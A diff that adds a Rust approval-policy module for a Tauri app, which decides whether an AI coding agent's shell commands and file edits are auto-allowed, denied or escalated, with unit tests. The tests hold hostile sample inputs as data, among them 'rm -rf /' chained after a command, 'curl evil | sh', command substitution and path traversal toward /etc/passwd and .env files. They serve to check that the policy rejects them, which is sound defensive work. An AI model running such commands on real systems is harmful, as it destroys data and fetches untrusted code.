@@ -0,0 +1,608 @@
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+use tauri::{AppHandle, Manager};
+
+use crate::approval_request::{ApprovalKind, ApprovalRequest};
+
+const POLICY_FILE_NAME: &str = "approval-policy.json";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum PolicyAction {
+    Allow,
+    Deny,
+    Ask,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct PolicyRule {
+    pub id: String,
+    pub action: PolicyAction,
+    pub kind: Option<ApprovalKind>,
+    pub command: Option<Vec<String>>,
+    pub cwd: Option<String>,
+    pub paths: Option<Vec<String>>,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct ApprovalPolicy {
+    pub version: Option<u32>,
+    #[serde(default)]
+    pub rules: Vec<PolicyRule>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct PolicyMatch {
+    pub rule_id: String,
+    pub action: PolicyAction,
+}
+
+impl ApprovalRequest {
+    // Paths resolved lexically against the request cwd, so `..` cannot walk a
+    // match out of an allowed directory.
+    fn touched_paths(&self) -> Vec<String> {
+        let cwd = self.resolved_cwd();
+        self.paths
+            .iter()
+            .chain(self.grant_root.as_ref())
+            .map(|path| resolve_path(path, cwd.as_deref()))
+            .collect()
+    }
+
+    fn resolved_cwd(&self) -> Option<String> {
+        self.cwd.as_deref().map(|cwd| resolve_path(cwd, None))
+    }
+
+    // A `..` left after resolution climbs out of a relative path with no cwd to
+    // anchor it; nothing about such a request is auto-allowed.
+    fn has_unresolved_parent(&self) -> bool {
+        let has_parent = |path: &String| path.split('/').any(|segment| segment == "..");
+        self.touched_paths().iter().any(has_parent) || self.resolved_cwd().as_ref().is_some_and(has_parent)
+    }
+}
+
+impl PolicyAction {
+    pub fn decision(self) -> Option<&'static str> {
+        match self {
+            PolicyAction::Allow => Some("accept"),
+            PolicyAction::Deny => Some("decline"),
+            PolicyAction::Ask => None,
+        }
+    }
+}
+
+impl ApprovalPolicy {
+    pub fn parse(source: &str) -> Result<Self, String> {
+        let policy: ApprovalPolicy =
+            serde_json::from_str(source).map_err(|e| format!("invalid approval policy: {e}"))?;
+        if let Some(version) = policy.version {
+            if version != 1 {
+                return Err(format!("unsupported approval policy version: {version}"));
+            }
+        }
+        for rule in &policy.rules {
+            if rule.id.trim().is_empty() {
+                return Err("approval policy rules must have a non-empty id".to_string());
+            }
+            if rule.command.is_none() && rule.cwd.is_none() && rule.paths.is_none() {
+                return Err(format!(
+                    "approval policy rule '{}' must declare at least one of command, cwd or paths",
+                    rule.id
+                ));
+            }
+            if rule.action == PolicyAction::Allow {
+                validate_allow_rule(rule)?;
+            }
+        }
+        Ok(policy)
+    }
+
+    // Rules are evaluated in file order; the first rule whose conditions all
+    // match decides, so put narrow `ask`/`deny` rules before broad `allow` rules.
+    pub fn evaluate(&self, request: &ApprovalRequest) -> Option<PolicyMatch> {
+        let kind = request.kind()?;
+        self.rules
+            .iter()
+            .find(|rule| rule_matches(rule, kind, request))
+            .map(|rule| PolicyMatch {
+                rule_id: rule.id.clone(),
+                action: rule.action,
+            })
+    }
+}
+
+pub fn load_policy(app: &AppHandle) -> Result<Option<(ApprovalPolicy, PathBuf)>, String> {
+    let path = match std::env::var("CODEX_APPROVAL_POLICY") {
+        Ok(configured) => {
+            let configured = configured.trim();
+            if configured.is_empty() {
+                return Err("CODEX_APPROVAL_POLICY cannot be empty".to_string());
+            }
+            let path = PathBuf::from(configured);
+            if !path.is_file() {
+                return Err(format!(
+                    "CODEX_APPROVAL_POLICY must reference an existing file. Missing path: {configured}"
+                ));
+            }
+            path
+        }
+        Err(_) => match app.path().app_config_dir() {
+            Ok(dir) if dir.join(POLICY_FILE_NAME).is_file() => dir.join(POLICY_FILE_NAME),
+            _ => return Ok(None),
+        },
+    };
+
+    let source = std::fs::read_to_string(&path)
+        .map_err(|e| format!("failed to read approval policy {}: {e}", path.display()))?;
+    let policy = ApprovalPolicy::parse(&source)
+        .map_err(|e| format!("{e} ({})", path.display()))?;
+    Ok(Some((policy, path)))
+}
+
+// An allow rule must constrain what it approves: a `cwd` alone would accept
+// any command, or any file change, made in that directory. `command` already
+// limits a rule to command executions and `paths` to file changes.
+fn validate_allow_rule(rule: &PolicyRule) -> Result<(), String> {
+    if rule.command.is_some() || rule.paths.is_some() {
+        return Ok(());
+    }
+    let required = match rule.kind {
+        Some(ApprovalKind::CommandExecution) => "command",
+        Some(ApprovalKind::FileChange) => "paths",
+        None => "command or paths",
+    };
+    Err(format!("approval policy allow rule '{}' must declare {required}", rule.id))
+}
+
+fn rule_matches(rule: &PolicyRule, kind: ApprovalKind, request: &ApprovalRequest) -> bool {
+    if rule.action == PolicyAction::Allow && request.has_unresolved_parent() {
+        return false;
+    }
+    if let Some(rule_kind) = rule.kind {
+        if rule_kind != kind {
+            return false;
+        }
+    }
+
+    if let Some(pattern) = &rule.command {
+        if kind != ApprovalKind::CommandExecution {
+            return false;
+        }
+        let Some(argv) = request.command.as_deref().and_then(command_argv) else {
+            return false;
+        };
+        if !argv_matches(pattern, &argv) {
+            return false;
+        }
+    }
+
+    if let Some(cwd_pattern) = &rule.cwd {
+        let Some(cwd) = request.resolved_cwd() else {
+            return false;
+        };
+        if !glob_matches(cwd_pattern, &cwd) {
+            return false;
+        }
+    }
+
+    if let Some(path_patterns) = &rule.paths {
+        if kind != ApprovalKind::FileChange {
+            return false;
+        }
+        let paths = request.touched_paths();
+        if paths.is_empty() {
+            return false;
+        }
+        let path_matches = |path: &String| path_patterns.iter().any(|pattern| glob_matches(pattern, path));
+        // An allow rule must cover every touched path; a deny/ask rule fires on any of them.
+        let matched = if rule.action == PolicyAction::Allow {
+            paths.iter().all(path_matches)
+        } else {
+            paths.iter().any(path_matches)
+        };
+        if !matched {
+            return false;
+        }
+    }
+
+    true
+}
+
+// Forward slashes, relative paths joined onto `cwd`, and `.`/`..` folded without
+// touching the filesystem. `..` at the root stays at the root; one that climbs
+// above the start of a relative path is kept.
+fn resolve_path(path: &str, cwd: Option<&str>) -> String {
+    let path = path.replace('\\', "/");
+    let joined = match cwd {
+        Some(cwd) if root_len(&path) == 0 => format!("{}/{path}", cwd.replace('\\', "/")),
+        _ => path,
+    };
+    let (root, rest) = joined.split_at(root_len(&joined));
+    let mut segments: Vec<&str> = Vec::new();
+    for segment in rest.split('/') {
+        match segment {
+            "" | "." => {}
+            ".." => match segments.last() {
+                Some(&last) if last != ".." => {
+                    segments.pop();
+                }
+                _ if !root.is_empty() => {}
+                _ => segments.push(".."),
+            },
+            _ => segments.push(segment),
+        }
+    }
+    format!("{root}{}", segments.join("/"))
+}
+
+// Length of the `/` or `C:/` prefix of an absolute path; 0 for a relative one.
+fn root_len(path: &str) -> usize {
+    let bytes = path.as_bytes();
+    if bytes.first() == Some(&b'/') {
+        1
+    } else if bytes.len() >= 3 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':' && bytes[2] == b'/' {
+        3
+    } else {
+        0
+    }
+}
+
+// Both matchers track the set of pattern positions reachable after each
+// consumed argument or character, so the cost is O(pattern * text) however
+// many stars the pattern has.
+fn argv_matches(pattern: &[String], argv: &[String]) -> bool {
+    let mut states = vec![false; pattern.len() + 1];
+    states[0] = true;
+    close_argv_states(pattern, &mut states);
+    for arg in argv {
+        let mut next = vec![false; pattern.len() + 1];
+        for (idx, element) in pattern.iter().enumerate().filter(|(idx, _)| states[*idx]) {
+            if element == "**" {
+                next[idx] = true;
+            } else if glob_matches(element, arg) {
+                next[idx + 1] = true;
+            }
+        }
+        close_argv_states(pattern, &mut next);
+        states = next;
+    }
+    states[pattern.len()]
+}
+
+// `**` may match no arguments.
+fn close_argv_states(pattern: &[String], states: &mut [bool]) {
+    for idx in 0..pattern.len() {
+        if states[idx] && pattern[idx] == "**" {
+            states[idx + 1] = true;
+        }
+    }
+}
+
+enum GlobToken {
+    Char(char),
+    // `?`: one character other than `/`.
+    AnyChar,
+    // `*`: any run of characters other than `/`.
+    Star,
+    // `**`: any run of characters.
+    GlobStar,
+    // Zero-width marker in front of the `**` of `**/`: skips the globstar and
+    // its `/` together, so `**/` matches zero or more whole directories.
+    SkipDirs,
+}
+
+// `*` and `?` stop at `/`; `**` matches across path separators.
+fn glob_matches(pattern: &str, text: &str) -> bool {
+    let tokens = glob_tokens(pattern);
+    let mut states = vec![false; tokens.len() + 1];
+    states[0] = true;
+    close_glob_states(&tokens, &mut states);
+    for ch in text.chars() {
+        let mut next = vec![false; tokens.len() + 1];
+        for (idx, token) in tokens.iter().enumerate().filter(|(idx, _)| states[*idx]) {
+            match token {
+                GlobToken::Char(expected) if *expected == ch => next[idx + 1] = true,
+                GlobToken::AnyChar if ch != '/' => next[idx + 1] = true,
+                GlobToken::Star if ch != '/' => next[idx] = true,
+                GlobToken::GlobStar => next[idx] = true,
+                _ => {}
+            }
+        }
+        close_glob_states(&tokens, &mut next);
+        if !next.contains(&true) {
+            return false;
+        }
+        states = next;
+    }
+    states[tokens.len()]
+}
+
+fn glob_tokens(pattern: &str) -> Vec<GlobToken> {
+    let chars: Vec<char> = pattern.chars().collect();
+    let mut tokens = Vec::new();
+    let mut idx = 0;
+    while idx < chars.len() {
+        match chars[idx] {
+            '*' if chars.get(idx + 1) == Some(&'*') => {
+                if chars.get(idx + 2) == Some(&'/') {
+                    tokens.push(GlobToken::SkipDirs);
+                }
+                tokens.push(GlobToken::GlobStar);
+                idx += 2;
+            }
+            '*' => {
+                tokens.push(GlobToken::Star);
+                idx += 1;
+            }
+            '?' => {
+                tokens.push(GlobToken::AnyChar);
+                idx += 1;
+            }
+            ch => {
+                tokens.push(GlobToken::Char(ch));
+                idx += 1;
+            }
+        }
+    }
+    tokens
+}
+
+// Stars may match nothing; states only move forward, so one pass suffices.
+fn close_glob_states(tokens: &[GlobToken], states: &mut [bool]) {
+    for idx in 0..tokens.len() {
+        if !states[idx] {
+            continue;
+        }
+        match tokens[idx] {
+            GlobToken::Star | GlobToken::GlobStar => states[idx + 1] = true,
+            GlobToken::SkipDirs => {
+                states[idx + 1] = true;
+                states[idx + 3] = true;
+            }
+            _ => {}
+        }
+    }
+}
+
+fn command_argv(command: &str) -> Option<Vec<String>> {
+    let argv = split_command_line(command)?;
+    if argv.len() == 3 && matches!(argv[1].as_str(), "-c" | "-lc") {
+        let shell = Path::new(&argv[0])
+            .file_name()
+            .map(|name| name.to_string_lossy().to_string())
+            .unwrap_or_default();
+        if matches!(shell.as_str(), "sh" | "bash" | "zsh") {
+            return split_command_line(&argv[2]);
+        }
+    }
+    Some(argv)
+}
+
+// Returns None for anything that is not a single simple command (pipes, chains,
+// redirects, substitutions) so argv patterns can never auto-approve a compound script.
+fn split_command_line(command: &str) -> Option<Vec<String>> {
+    let mut argv = Vec::new();
+    let mut current = String::new();
+    let mut in_token = false;
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars();
+
+    while let Some(ch) = chars.next() {
+        match quote {
+            Some('\'') => {
+                if ch == '\'' {
+                    quote = None;
+                } else {
+                    current.push(ch);
+                }
+            }
+            Some(_) => match ch {
+                '"' => quote = None,
+                '\\' => current.push(chars.next()?),
+                '$' | '`' => return None,
+                _ => current.push(ch),
+            },
+            None => match ch {
+                '\'' | '"' => {
+                    quote = Some(ch);
+                    in_token = true;
+                }
+                '\\' => {
+                    current.push(chars.next()?);
+                    in_token = true;
+                }
+                ';' | '&' | '|' | '<' | '>' | '`' | '$' | '(' | ')' | '\n' => return None,
+                ch if ch.is_whitespace() => {
+                    if in_token {
+                        argv.push(std::mem::take(&mut current));
+                        in_token = false;
+                    }
+                }
+                _ => {
+                    current.push(ch);
+                    in_token = true;
+                }
+            },
+        }
+    }
+
+    if quote.is_some() {
+        return None;
+    }
+    if in_token {
+        argv.push(current);
+    }
+    if argv.is_empty() {
+        return None;
+    }
+    Some(argv)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strings(items: &[&str]) -> Vec<String> {
+        items.iter().map(|item| item.to_string()).collect()
+    }
+
+    fn file_change(paths: &[&str], cwd: Option<&str>) -> ApprovalRequest {
+        ApprovalRequest {
+            method: "item/fileChange/requestApproval".to_string(),
+            request_id: serde_json::json!(1),
+            thread_id: None,
+            turn_id: None,
+            item_id: None,
+            command: None,
+            cwd: cwd.map(str::to_string),
+            paths: strings(paths),
+            grant_root: None,
+        }
+    }
+
+    #[test]
+    fn glob_matches_table() {
+        let cases = [
+            ("/repo/*.rs", "/repo/main.rs", true),
+            ("/repo/*.rs", "/repo/src/main.rs", false),
+            ("/repo/?.rs", "/repo/a.rs", true),
+            ("/repo/?.rs", "/repo/ab.rs", false),
+            ("/repo/**", "/repo/src/deep/main.rs", true),
+            ("/repo/**", "/other/main.rs", false),
+            ("**/.env", "/repo/.env", true),
+            ("**/.env", ".env", true),
+            ("**/.env", "/repo/.env.local", false),
+            ("**/.ssh/**", "/home/dev/.ssh/id_ed25519", true),
+            ("/home/*/src/**", "/home/dev/src/repo", true),
+            ("/home/*/src/**", "/home/dev/other/src/repo", false),
+            ("/", "/", true),
+            ("/", "/home", false),
+            ("/repo/**/main.rs", "/repo/main.rs", true),
+            ("/repo/**/main.rs", "/repo/a/b/main.rs", true),
+            ("/repo/**/main.rs", "/repo/a/b/xmain.rs", false),
+            ("**x**/y", "axxy", true),
+            ("/repo/*/*.rs", "/repo/src/main.rs", true),
+            ("/repo/*/*.rs", "/repo/src/deep/main.rs", false),
+        ];
+        for (pattern, text, expected) in cases {
+            assert_eq!(glob_matches(pattern, text), expected, "{pattern} vs {text}");
+        }
+    }
+
+    #[test]
+    fn many_stars_do_not_backtrack_exponentially() {
+        let text = "a".repeat(200);
+        let started = std::time::Instant::now();
+        assert!(!glob_matches(&format!("{}b", "*a".repeat(40)), &text));
+        assert!(!glob_matches(&format!("{}b", "**a".repeat(40)), &text));
+        assert!(!glob_matches(&format!("{}b", "**/a".repeat(40)), &"a/".repeat(100)));
+        let mut pattern = strings(&[["**", "a"]; 40].concat());
+        pattern.push("b".to_string());
+        assert!(!argv_matches(&pattern, &strings(&["a"; 200])));
+        assert!(started.elapsed() < std::time::Duration::from_secs(1));
+    }
+
+    #[test]
+    fn argv_matches_table() {
+        let cases: [(&[&str], &[&str], bool); 7] = [
+            (&["cargo", "test", "**"], &["cargo", "test"], true),
+            (&["cargo", "test", "**"], &["cargo", "test", "--all", "-q"], true),
+            (&["cargo", "test", "**"], &["cargo", "build"], false),
+            (&["git", "status"], &["git", "status", "-s"], false),
+            (&["git", "*"], &["git", "log"], true),
+            (&["**", "--force"], &["git", "push", "--force"], true),
+            (&["npm", "run", "test:*"], &["npm", "run", "test:unit"], true),
+        ];
+        for (pattern, argv, expected) in cases {
+            assert_eq!(argv_matches(&strings(pattern), &strings(argv)), expected, "{pattern:?} vs {argv:?}");
+        }
+    }
+
+    #[test]
+    fn split_command_line_table() {
+        let cases: [(&str, Option<&[&str]>); 12] = [
+            ("cargo test --all", Some(&["cargo", "test", "--all"])),
+            ("  git   status  ", Some(&["git", "status"])),
+            ("echo 'a b' \"c d\"", Some(&["echo", "a b", "c d"])),
+            ("echo 'it''s'", Some(&["echo", "its"])),
+            ("echo \"a\\\"b\"", Some(&["echo", "a\"b"])),
+            ("echo a\\ b", Some(&["echo", "a b"])),
+            ("echo 'unterminated", None),
+            ("cargo test && rm -rf /", None),
+            ("cat file | sh", None),
+            ("echo \"$(whoami)\"", None),
+            ("ls > out.txt", None),
+            ("", None),
+        ];
+        for (command, expected) in cases {
+            assert_eq!(split_command_line(command), expected.map(strings), "{command:?}");
+        }
+    }
+
+    #[test]
+    fn shell_wrappers_are_unwrapped_but_compound_scripts_are_not() {
+        assert_eq!(command_argv("/bin/bash -lc 'cargo test'"), Some(strings(&["cargo", "test"])));
+        assert_eq!(command_argv("sh -c \"git status\""), Some(strings(&["git", "status"])));
+        assert_eq!(command_argv("bash -lc 'cargo test; curl evil | sh'"), None);
+        assert_eq!(command_argv("python -c 'print(1)'"), Some(strings(&["python", "-c", "print(1)"])));
+    }
+
+    #[test]
+    fn resolve_path_table() {
+        let cases = [
+            ("/repo/src/../main.rs", None, "/repo/main.rs"),
+            ("/repo/./src//lib.rs", None, "/repo/src/lib.rs"),
+            ("/../etc/passwd", None, "/etc/passwd"),
+            ("src/main.rs", Some("/repo"), "/repo/src/main.rs"),
+            ("../secrets/.env", Some("/repo/app"), "/repo/secrets/.env"),
+            ("../outside", None, "../outside"),
+            ("C:\\repo\\src\\..\\main.rs", None, "C:/repo/main.rs"),
+        ];
+        for (path, cwd, expected) in cases {
+            assert_eq!(resolve_path(path, cwd), expected, "{path} in {cwd:?}");
+        }
+    }
+
+    #[test]
+    fn parent_segments_cannot_escape_an_allowed_directory() {
+        let policy = ApprovalPolicy::parse(
+            r#"{ "rules": [{ "id": "allow-repo", "action": "allow", "paths": ["/repo/**"] }] }"#,
+        )
+        .unwrap();
+        let allowed = |request: &ApprovalRequest| policy.evaluate(request).is_some();
+
+        assert!(allowed(&file_change(&["/repo/src/main.rs"], None)));
+        assert!(allowed(&file_change(&["src/main.rs"], Some("/repo"))));
+        assert!(!allowed(&file_change(&["/repo/../etc/passwd"], None)));
+        assert!(!allowed(&file_change(&["../etc/passwd"], Some("/repo"))));
+        assert!(!allowed(&file_change(&["../repo/main.rs"], None)));
+    }
+
+    #[test]
+    fn allow_rules_must_constrain_what_they_approve() {
+        let parse = |rule: &str| ApprovalPolicy::parse(&format!(r#"{{ "rules": [{rule}] }}"#));
+
+        let error = parse(r#"{ "id": "cwd-only", "action": "allow", "cwd": "/repo/**" }"#).unwrap_err();
+        assert!(error.contains("must declare command or paths"), "{error}");
+        let error =
+            parse(r#"{ "id": "cwd-files", "action": "allow", "kind": "fileChange", "cwd": "/repo/**" }"#).unwrap_err();
+        assert!(error.contains("must declare paths"), "{error}");
+        let error =
+            parse(r#"{ "id": "cwd-commands", "action": "allow", "kind": "commandExecution", "cwd": "/repo/**" }"#)
+                .unwrap_err();
+        assert!(error.ends_with("must declare command"), "{error}");
+
+        assert!(parse(r#"{ "id": "cmd", "action": "allow", "command": ["cargo", "test"], "cwd": "/repo/**" }"#).is_ok());
+        assert!(parse(r#"{ "id": "files", "action": "allow", "paths": ["/repo/**"], "cwd": "/repo/**" }"#).is_ok());
+        assert!(parse(r#"{ "id": "ask-in-repo", "action": "ask", "cwd": "/repo/**" }"#).is_ok());
+    }
+
+    #[test]
+    fn example_policy_parses() {
+        let policy = ApprovalPolicy::parse(include_str!("../approval-policy.example.json")).unwrap();
+        assert!(!policy.rules.is_empty());
+    }
+}